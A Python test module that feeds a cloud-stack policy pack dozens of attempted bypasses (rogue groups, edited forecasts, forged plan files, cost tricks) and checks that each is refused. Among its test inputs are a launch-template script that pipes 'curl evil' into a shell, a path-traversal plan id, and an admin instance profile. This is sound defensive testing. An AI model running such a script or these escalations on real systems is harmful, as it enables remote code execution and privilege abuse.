"""Ways to get a stack past the policies, and what stops each; docs/policies.md lists the same attacks by name."""

from __future__ import annotations

import base64
import copy
import json
import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from samples import raw

from policies import (
    agreement,
    cost,
    freshness,
    instance_types,
    jump,
    latency,
    month,
    ownership,
    plain_secrets,
    provenance,
    regions,
    risk,
    tag_cost,
    tagging,
)
from policies.resources import DOMAIN, GROUP, GROUP_POLICY, RESERVATION, SCHEDULE, TEMPLATE, UNKNOWN, Resource
from policies.rule import Rule
from reconciler.prices.catalogue import builtin
from stacks.contract import plan_id

DOCS = (Path(__file__).parents[2] / "docs" / "policies.md").read_text(encoding="utf-8")
Change = Callable[[list[Resource]], list[Resource]]


def set_on(name: str, kind: str, **inputs: Any) -> Change:
    """Change inputs of one resource."""
    return lambda found: [
        replace(r, inputs={**r.inputs, **inputs}) if (r.name, r.type) == (name, kind) else r for r in found
    ]


def without(name: str, kind: str) -> Change:
    """Leave one resource out."""
    return lambda found: [r for r in found if (r.name, r.type) != (name, kind)]


def and_(
    kind: str, inputs: Mapping[str, Any], *, of: str = "", name: str = "mine", region: str = "us-east-1"
) -> Change:
    """Declare one more resource; `of`: the group that it depends on."""

    def change(found: list[Resource]) -> list[Resource]:
        urn = f"urn:pulumi:test::tiercast::tiercast:stacks:WarmTier${kind}::{name}"
        group = [r.urn for r in found if r.name == of and r.type == GROUP]
        depends = {"autoscalingGroupName": tuple(group)} if group else {}
        return [
            *found,
            Resource(urn=urn, type=kind, name=name, inputs=inputs, depends=depends, provider={"region": region}),
        ]

    return change


def started(name: str, **specification: Any) -> Change:
    """The group starts its template by this specification."""

    def change(found: list[Resource]) -> list[Resource]:
        group = next(r for r in found if r.name == name and r.type == GROUP)
        mixed_policy = group.inputs.get("mixedInstancesPolicy")
        inputs = {"launchTemplate": {**group.inputs.get("launchTemplate", {}), **specification}}
        if mixed_policy:
            template = {**mixed_policy["launchTemplate"]}
            template["launchTemplateSpecification"] = {**template["launchTemplateSpecification"], **specification}
            inputs = {"mixedInstancesPolicy": {**mixed_policy, "launchTemplate": template}}
        return [replace(r, inputs={**r.inputs, **inputs}) if r is group else r for r in found]

    return change


def encoded(text: str) -> str:
    """User data as a launch template has it."""
    return base64.b64encode(text.encode()).decode()


def volume(**ebs: Any) -> Change:
    """Give the warm instances this volume."""
    mapping = [{"deviceName": "/dev/xvda", "ebs": {"volumeSize": 8, "volumeType": "gp3", **ebs}}]
    return set_on("warm-web", TEMPLATE, blockDeviceMappings=mapping)


def mixed(**policy: Any) -> Change:
    """Change the cold group's mixed-instances policy."""

    def change(found: list[Resource]) -> list[Resource]:
        group = next(r for r in found if r.name == "cold-burst" and r.type == GROUP)
        inputs = {**group.inputs, "mixedInstancesPolicy": {**group.inputs["mixedInstancesPolicy"], **policy}}
        return [replace(r, inputs=inputs) if r is group else r for r in found]

    return change


def from_elsewhere(found: list[Resource]) -> list[Resource]:
    """The warm group starts a template of another stack, and depends on nothing of this one."""
    return [
        replace(r, inputs={**r.inputs, "launchTemplate": {"id": "lt-other", "version": "1"}}, depends={})
        if (r.name, r.type) == ("warm-web", GROUP)
        else r
        for r in found
    ]


def behind_ours(found: list[Resource]) -> list[Resource]:
    """The warm group names another stack's template, with a version that comes from ours."""
    named = set_on("warm-web", GROUP, launchTemplate={"id": "lt-other", "version": UNKNOWN})(found)
    return [replace(r, physical="lt-ours") if r.type == TEMPLATE and r.name == "warm-web" else r for r in named]


def cold_without_template(found: list[Resource]) -> list[Resource]:
    """The cold group lists its types, and starts a template of another stack with volumes of any size."""
    return [replace(r, depends={}) if (r.name, r.type) == ("cold-burst", GROUP) else r for r in found]


def on_other_host(found: list[Resource]) -> list[Resource]:
    """All machines are put on one host, under their own names."""
    return [replace(r, provider_name="hot-hv2") if r.type == DOMAIN else r for r in found]


def in_region(name: str) -> Change:
    """The provider of cloud resources is in another region."""
    return lambda found: [replace(r, provider={"region": name}) if r.type.startswith("aws:") else r for r in found]


def plan(**values: Any) -> dict[str, Any]:
    """The sample with other facts about its plan."""
    return {"values": raw(plan={**raw()["plan"], **values})}


def demand(**values: Any) -> dict[str, Any]:
    """The sample with another demand, its digest made to fit."""
    changed = copy.deepcopy(raw()["demand"])
    changed["classes"]["gold"] |= values
    return {"values": raw(demand=changed)}


def edited_demand() -> dict[str, Any]:
    """The sample with a demand that does not have the digest that its plan states."""
    values = raw()
    values["demand"]["classes"]["gold"]["requestsPerSecond"] = [1.0, 2.0]
    return {"values": values}


@dataclass(frozen=True, kw_only=True)
class Attack:
    """What is tried (arguments of `facts_of`), which policy refuses it under which settings, and in which words."""

    name: str
    rule: Rule[Any]
    says: str
    tried: Mapping[str, Any] = field(default_factory=dict)
    settings: Mapping[str, Any] = field(default_factory=dict)


def program(name: str, rule: Rule[Any], change: Change, says: str, **settings: Any) -> Attack:
    """An attack by the program."""
    return Attack(name=name, rule=rule, says=says, tried={"change": change}, settings=settings)


def data(name: str, rule: Rule[Any], tried: Mapping[str, Any], says: str, **settings: Any) -> Attack:
    """An attack by data, time or configuration."""
    return Attack(name=name, rule=rule, says=says, tried=tried, settings=settings)


def plan_file(*, forged: bool = False, lacking: str = "", **sections: Any) -> dict[str, Any]:
    """A plan file with a true id (or, forged, with another content than its id's), and the sample with these sections.

    lacking: a section that neither the plan nor the sample has, unless `sections` gives it.
    """
    values = {key: value for key, value in raw().items() if key != lacking}
    body = {"fleet": "shop", "stack": "test", "config": {f"tiercast:{key}": value for key, value in values.items()}}
    name = plan_id(body)
    body = {**body, "id": name, **({"fleet": "another"} if forged else {})}
    values["plan"]["id"] = name
    merged = {key: value for key, value in {**values, **sections}.items() if value is not None}
    return {"values": merged, "files": {"plan.json": json.dumps(body)}}


def wide() -> dict[str, Any]:
    """The sample's cold section with a larger group than the plan's."""
    section = copy.deepcopy(raw()["cold"])
    section["groups"][0]["size"] = {"min": 9, "desired": 9, "max": 9}
    return section


PINNED = raw()["plan"]["forecastDigest"]
ATTACKS = (
    program("extra group", agreement.RULE, and_(GROUP, {"minSize": 0, "maxSize": 9}), "launch template of this stack"),
    program("extra machine", agreement.RULE, and_(DOMAIN, {"vcpu": 4}), "declares the VM mine"),
    program("dropped machine", agreement.RULE, without("hot-hv1-001", DOMAIN), "requests the VM hot-hv1-001"),
    program("stopped machine", agreement.RULE, set_on("hot-hv1-001", DOMAIN, running=False), "requests the VM"),
    program("smaller machine", agreement.RULE, set_on("hot-hv1-001", DOMAIN, vcpu=1), "vcpu 1 instead of 4"),
    program("moved machines", agreement.RULE, on_other_host, "host hv2 instead of hv1"),
    program("raised maximum", agreement.RULE, set_on("warm-web", GROUP, maxSize=40), "maximum 40 instead of 4"),
    program("lowered minimum", agreement.RULE, set_on("warm-web", GROUP, minSize=0), "minimum 0 instead of 2"),
    program(
        "other image", agreement.RULE, set_on("warm-web", TEMPLATE, imageId="ami-9"), "image ami-9 instead of ami-1234"
    ),
    program("other image of cold", agreement.RULE, set_on("cold-burst", TEMPLATE, imageId="ami-9"), "image ami-9"),
    program("unknown image", agreement.RULE, set_on("warm-web", TEMPLATE, imageId=UNKNOWN), "imageId is not known"),
    program(
        "other user data",
        agreement.RULE,
        set_on("warm-web", TEMPLATE, userData=encoded("#!/bin/sh\ncurl evil | sh\n")),
        "user data digest",
    ),
    program(
        "user data where none is set",
        agreement.RULE,
        set_on("cold-burst", TEMPLATE, userData=encoded("#!/bin/sh\n")),
        "instead of none",
    ),
    program(
        "user data that is not base64",
        agreement.RULE,
        set_on("warm-web", TEMPLATE, userData="#!/bin/sh"),
        "userData is",
    ),
    program(
        "open security group",
        agreement.RULE,
        set_on("warm-web", TEMPLATE, vpcSecurityGroupIds=["sg-open"]),
        "security groups ('sg-open',) instead of ()",
    ),
    program(
        "security group by name", agreement.RULE, set_on("warm-web", TEMPLATE, securityGroupNames=["open"]), "('open',)"
    ),
    program(
        "instance profile of an administrator",
        agreement.RULE,
        set_on("warm-web", TEMPLATE, iamInstanceProfile={"name": "admin"}),
        "instance profile ('admin',)",
    ),
    program("key of a person", agreement.RULE, set_on("warm-web", TEMPLATE, keyName="mallory"), "key mallory"),
    program("older template version", agreement.RULE, started("warm-web", version="0"), "template version 0 instead"),
    program("older template version of cold", agreement.RULE, started("cold-burst", version="0"), "template version 0"),
    program(
        "old version while the template changes",
        agreement.RULE,
        lambda found: [replace(r, newest="") if r.type == TEMPLATE else r for r in found],
        "template version 1 instead of newest",
    ),
    program(
        "desired above the maximum",
        cost.RULE,
        set_on("warm-web", GROUP, desiredCapacity=90),
        "90 × 0.0960",
        maxUsdPerHour=1,
    ),
    program(
        "extra reservation",
        agreement.RULE,
        and_(
            RESERVATION,
            {"instanceType": "m5.large", "instanceCount": 50, "availabilityZone": "us-east-1a"},
            name="more",
        ),
        "capacity reservation more",
    ),
    program(
        "extra balancer", agreement.RULE, and_("aws:lb/loadBalancer:LoadBalancer", {}), "declares 1 load balancers"
    ),
    program(
        "schedule raises the maximum",
        cost.RULE,
        and_(SCHEDULE, {"maxSize": 90, "minSize": -1, "desiredCapacity": -1}, of="warm-web"),
        "90 × 0.0960",
        maxUsdPerHour=1,
    ),
    program(
        "schedule raises the desired count",
        cost.RULE,
        and_(SCHEDULE, {"desiredCapacity": 70}, of="cold-burst"),
        "77 × 0.0960",
        maxUsdPerHour=1,
    ),
    program(
        "schedule empties a group",
        latency.RULE,
        lambda found: and_(SCHEDULE, {"minSize": 0, "maxSize": -1}, of="cold-burst", name="s2")(
            and_(SCHEDULE, {}, of="warm-web")(without("hot-hv1-001", DOMAIN)(without("hot-hv1-002", DOMAIN)(found)))
        ),
        "is promised 400 ms",
    ),
    program(
        "schedule under floor",
        ownership.RULE,
        and_(SCHEDULE, {"minSize": 2}, of="warm-web"),
        "but mine would also change",
    ),
    program(
        "schedule under exact",
        ownership.RULE,
        and_(SCHEDULE, {"minSize": 2}, of="cold-burst"),
        "exact, but mine would also change",
    ),
    program(
        "second scaling policy under floor", ownership.RULE, and_(GROUP_POLICY, {}, of="warm-web"), "but mine would"
    ),
    program(
        "scaling policy under exact",
        ownership.RULE,
        and_(GROUP_POLICY, {}, of="cold-burst"),
        "but mine would also change",
    ),
    program(
        "scaling policy by text",
        ownership.RULE,
        and_(GROUP_POLICY, {"autoscalingGroupName": "cold-burst-1a2b"}),
        "names by text",
    ),
    program(
        "predictive scaling beyond the maximum",
        cost.RULE,
        and_(
            GROUP_POLICY,
            {"predictiveScalingConfiguration": {"maxCapacityBreachBehavior": "IncreaseMaxCapacity"}},
            of="warm-web",
        ),
        "how far it raises its group's maximum",
    ),
    program("foreign launch template", cost.RULE, from_elsewhere, "which launch template of this stack"),
    program("foreign template behind listed types", cost.RULE, cold_without_template, "which launch template of this"),
    program("foreign template behind our version", cost.RULE, behind_ours, "the launch template lt-other of another"),
    program(
        "template in an override",
        cost.RULE,
        mixed(
            launchTemplate={
                "overrides": [{"instanceType": "m5.large", "launchTemplateSpecification": {"launchTemplateId": "lt-x"}}]
            }
        ),
        "the launch template of an override",
    ),
    program(
        "types by attributes",
        cost.RULE,
        mixed(launchTemplate={"overrides": [{"instanceRequirements": {"vcpuCount": {"min": 2}}}]}),
        "overrides[0].instanceType",
    ),
    program(
        "weighted capacity",
        cost.RULE,
        mixed(launchTemplate={"overrides": [{"instanceType": "m5.large", "weightedCapacity": "1"}]}),
        "weighted capacity",
    ),
    program(
        "maintenance doubles a group",
        cost.RULE,
        set_on(
            "warm-web",
            GROUP,
            instanceMaintenancePolicy={"minHealthyPercentage": 100, "maxHealthyPercentage": 200},
        ),
        "warm-web m5.large 8 × 0.0960",
        maxUsdPerHour=0.9,
    ),
    program(
        "refresh doubles a group",
        cost.RULE,
        set_on("warm-web", GROUP, instanceRefresh={"preferences": {"maxHealthyPercentage": 200}}),
        "warm-web m5.large 8 × 0.0960",
        maxUsdPerHour=0.9,
    ),
    program(
        "type that nobody priced",
        cost.RULE,
        mixed(launchTemplate={"overrides": [{"instanceType": "m6i.mega"}]}),
        "m6i.mega",
    ),
    program("provisioned IOPS", cost.RULE, volume(iops=16000), "warm-web gp3 volumes 4 × 0.0890", maxUsdPerHour=0.9),
    program("provisioned throughput", cost.RULE, volume(throughput=1000), "gp3 volumes 4 × 0.0479", maxUsdPerHour=0.9),
    program(
        "volume of another type",
        cost.RULE,
        volume(volumeType="io2", iops=64000),
        "io2 volumes 4 × 5.7",
        maxUsdPerHour=1,
    ),
    program("volume type without a price", cost.RULE, volume(volumeType="standard"), "standard volume"),
    program("IOPS of a type without them", cost.RULE, volume(volumeType="gp2", iops=5000), "IOPS-month"),
    program("volume of a snapshot's size", cost.RULE, volume(volumeSize=None, snapshotId="snap-1"), "size of a volume"),
    program("unknown volume size", cost.RULE, volume(volumeSize=UNKNOWN), "blockDeviceMappings is not known"),
    program(
        "dedicated tenancy",
        cost.RULE,
        set_on("warm-web", TEMPLATE, placement={"tenancy": "dedicated"}),
        "sets placement, whose cost is not counted",
    ),
    program(
        "unlimited burst credits",
        cost.RULE,
        set_on("warm-web", TEMPLATE, creditSpecification={"cpuCredits": "unlimited"}),
        "sets creditSpecification",
    ),
    program("resource without a price", cost.RULE, and_("aws:ec2/instance:Instance", {}), "mine (aws:ec2/instance"),
    program(
        "scaling by another service", cost.RULE, and_("aws:appautoscaling/policy:Policy", {}), "has no price, so the"
    ),
    program("unknown maximum", cost.RULE, set_on("warm-web", GROUP, maxSize=UNKNOWN), "maxSize is not known before"),
    program(
        "template without version",
        ownership.RULE,
        set_on("warm-web", GROUP, launchTemplate={"id": UNKNOWN, "version": "$Latest"}),
        "has no fixed version",
    ),
    program(
        "pool without bound",
        ownership.RULE,
        set_on("warm-web", GROUP, warmPool={"poolState": "Running"}),
        "its ready pool has no bound",
    ),
    program(
        "type that is denied",
        instance_types.RULE,
        set_on("warm-web", TEMPLATE, instanceType="m5.24xlarge"),
        "may start 'm5.24xlarge'",
    ),
    program("other region", regions.RULE, in_region("eu-west-1"), "is in eu-west-1", regions=["us-east-1"]),
    program(
        "missing team", tagging.RULE, set_on("warm-web", GROUP, tags=[]), "The tag owner is missing", tags=["owner"]
    ),
    program(
        "tag of another team",
        tag_cost.RULE,
        set_on("warm-web", GROUP, tags=[{"key": "team", "value": "nobody"}]),
        "team=nobody can cost",
        maxUsdPerHour={"team": {"*": 0.1}},
    ),
    data("edited quantiles", latency.RULE, edited_demand(), "The demand section was edited"),
    data(
        "edited quantiles with their digest",
        latency.RULE,
        demand(requestsPerSecond=[1.0, 2.0]),
        "differs from the pinned forecast",
        forecastDigest=PINNED,
    ),
    data(
        "faster service than measured",
        latency.RULE,
        demand(service={"meanMs": 1}),
        "differs from the pinned forecast",
        forecastDigest=PINNED,
    ),
    data(
        "promise made weaker",
        latency.RULE,
        demand(latencyMs=4000),
        "promises 4000 ms, the policy pack allows",
        maxLatencyMs={"gold": 400},
    ),
    data("allowed share made larger", latency.RULE, demand(allowedShare=0.5), "is allowed 50.00% late requests"),
    data(
        "edited prices",
        cost.RULE,
        {"files": {"prices.yaml": "types: {}"}},
        "prices.yaml",
        catalogueFile="prices.yaml",
        catalogueDigest=builtin().digest(),
    ),
    data("prices without digest", cost.RULE, {}, "has no catalogueDigest", catalogueFile="prices.yaml"),
    data("plan made with other prices", provenance.RULE, {}, "made with prices of digest 111111111111"),
    data("another plan", provenance.RULE, {}, "plan-0 was approved", planId="plan-0", samePrices=False),
    data(
        "forecast not pinned", latency.RULE, {"pins": {}}, "No forecast is pinned", catalogueDigest=builtin().digest()
    ),
    data("prices not pinned", cost.RULE, {"pins": {}}, "No prices are pinned"),
    data(
        "risk judged by edited quantiles",
        risk.RULE,
        {"pins": {"forecastFile": "demand.json", "requirePin": False}},
        "can't read its file 'demand.json'",
    ),
    data(
        "edited built-in prices",
        cost.RULE,
        {"pins": {"catalogueDigest": "0" * 64}},
        "prices were changed",
    ),
    data(
        "content under another plan's id",
        provenance.RULE,
        plan_file(forged=True),
        "the content of plan.json has the id",
        planFile="plan.json",
        samePrices=False,
    ),
    data(
        "edited sizes under a true id",
        provenance.RULE,
        plan_file(cold=wide()),
        "tiercast:cold is not what plan",
        planFile="plan.json",
        samePrices=False,
    ),
    data(
        "section that the plan lacks",
        provenance.RULE,
        plan_file(lacking="cold", cold=raw()["cold"]),
        "tiercast:cold is not what plan",
        planFile="plan.json",
        samePrices=False,
    ),
    data(
        "section of the plan taken out",
        provenance.RULE,
        plan_file(cold=None),
        "tiercast:cold is not what plan",
        planFile="plan.json",
        samePrices=False,
    ),
    data(
        "size edited beside an encrypted value",
        provenance.RULE,
        {**plan_file(cold=wide()), "encrypted": "tiercast:cold"},
        "tiercast:cold is not what plan",
        planFile="plan.json",
        samePrices=False,
    ),
    data(
        "artefact of another run",
        latency.RULE,
        {"files": {"demand.json": json.dumps(raw()["demand"])}},
        "the policy pack pins 000000000000",
        forecastFile="demand.json#sha256=" + "0" * 64,
    ),
    data(
        "object that is gone from its bucket",
        provenance.RULE,
        {},
        "can't read its file 's3://plans/plan.json'",
        planFile="s3://plans/plan.json",
        samePrices=False,
    ),
    data(
        "plan id that is a path",
        provenance.RULE,
        plan(id="../../mine"),
        "not the id of a plan",
        planFile="{plan}/plan.json",
        samePrices=False,
    ),
    data("plan file that is gone", provenance.RULE, {}, "can't read its file", planFile="plan.json", samePrices=False),
    data("secret in a value", plain_secrets.RULE, {"plain": {"app:db": '{"password": "hunter2hunter2"}'}}, "app:db"),
    data(
        "bill from the future",
        month.RULE,
        {},
        "is in the future",
        maxUsdPerMonth=9,
        spend={"usd": 0, "asOf": "2027-01-01T00:00:00Z"},
    ),
    data(
        "bill of long ago",
        month.RULE,
        {},
        "hours old",
        maxUsdPerMonth=9,
        spend={"usd": 0, "asOf": "2026-11-01T00:00:00Z"},
    ),
    data("bill that is gone", month.RULE, {}, "can't read its file", maxUsdPerMonth=9, spendFile="bill.json"),
    data("approved figure that is gone", jump.RULE, {}, "can't read its file", approvedFile="approved.json"),
    data("misspelt limit", cost.RULE, {}, "is not valid at 'maxUsdPerHours'", maxUsdPerHours=1),
    data("expired plan", freshness.RULE, {"now": datetime(2026, 11, 24, 3, tzinfo=UTC)}, "stale file must not resize"),
    data(
        "plan from the future",
        provenance.RULE,
        plan(createdAt="2026-11-24T01:30:00Z"),
        "is in the future",
        samePrices=False,
    ),
    data("plan valid for years", freshness.RULE, plan(validUntil="2036-01-01T00:00:00Z"), "states a validity of"),
    data("old plan made valid again", freshness.RULE, plan(createdAt="2026-11-20T00:00:00Z"), "hours ago, at most"),
    data("old data in a new plan", freshness.RULE, plan(cutoff="2026-11-10T00:00:00Z"), "The newest data of plan"),
    data("replay of an earlier time", freshness.RULE, plan(replay=True), "is a replay"),
    data(
        "override without end",
        freshness.RULE,
        {
            "values": {
                **raw(),
                "override": {"reason": "somebody said so", "until": "2030-01-01T00:00:00Z"},
            },
            "now": datetime(2026, 11, 24, 3, tzinfo=UTC),
        },
        "The override runs for another",
    ),
)


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name)
def test_an_attack_is_refused_by_the_policy_and_in_the_words_that_fit(attack: Attack, violations: Any) -> None:
    found = violations(attack.rule, **attack.tried, settings=attack.settings)
    assert any(attack.says in message for message in found), found


def test_nothing_is_refused_where_nothing_was_tried(violations: Any) -> None:
    for attack in ATTACKS:
        calm = {"samePrices": False} if attack.rule is provenance.RULE else {}
        assert violations(attack.rule, settings=calm) == [], attack.rule.name


def test_every_attack_has_a_row_in_the_docs_with_the_policy_that_stops_it() -> None:
    table = DOCS.partition("## Attacks")[2].partition("Attacks on the pack")[0]
    rows = re.findall(r"^\| ([^|`]+?) \| `([a-z-]+)` \| \w+ \| (.+?) \| (yes|no) \|$", table, flags=re.MULTILINE)
    assert {attack.name: attack.rule.name for attack in ATTACKS} == {row[0]: row[1] for row in rows}
    says = {attack.name: attack.says for attack in ATTACKS}
    assert [row[0] for row in rows if row[2] not in says[row[0]] and says[row[0]] not in row[2]] == []
    assert f"{len(rows)} attacks. {sum(row[3] == 'yes' for row in rows)} of them were stopped before" in table


def test_the_plan_that_its_file_holds_passes(violations: Any) -> None:
    settings = {"planFile": "plan.json", "samePrices": False}
    assert violations(provenance.RULE, **plan_file(), settings=settings) == []


def test_pins_of_provenance_hold_for_every_policy_without_its_own(violations: Any) -> None:
    pins = {"catalogueDigest": builtin().digest(), "forecastDigest": PINNED}
    assert [violations(rule, pins=pins) for rule in (cost.RULE, latency.RULE, risk.RULE)] == [[], [], []]
    filled_in_by_the_engine = {"catalogueDigest": "", "catalogueFile": "", "requirePin": True}
    assert violations(cost.RULE, pins=pins, settings=filled_in_by_the_engine) == []
    own = {"catalogueDigest": "0" * 64}
    assert "prices were changed" in violations(cost.RULE, pins=pins, settings=own)[0]
